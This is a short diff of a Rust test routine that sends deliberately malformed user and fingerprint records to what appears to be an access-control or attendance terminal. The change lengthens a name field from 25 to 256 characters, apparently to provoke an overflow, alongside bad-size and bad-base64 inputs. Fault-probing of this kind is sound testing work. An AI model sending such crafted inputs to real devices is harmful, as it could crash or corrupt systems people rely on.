@@ -134,7 +134,7 @@ fn provoke(kind: Kind, t: Terminal) {
         Kind::Value => drop(t.post(&opr, "FP PIN=1\tFID=12\tSize=4\tValid=1\tTMP=AAAA\n")),
         Kind::NameLength => {
             let keys = "Pri=0\tPasswd=\tCard=\tGrp=1\tTZ=0000000000000000\tVerify=-1\tViceCard=";
-            t.post(&opr, format!("USER PIN=1\tName={}\t{keys}\n", "N".repeat(25)));
+            t.post(&opr, format!("USER PIN=1\tName={}\t{keys}\n", "N".repeat(256)));
         }
         Kind::Size => drop(t.post(&opr, "FP PIN=1\tFID=0\tSize=3\tValid=1\tTMP=AAAA\n")),
         Kind::Base64 => drop(t.post(&opr, "FP PIN=1\tFID=0\tSize=4\tValid=1\tTMP=A*AA\n")),
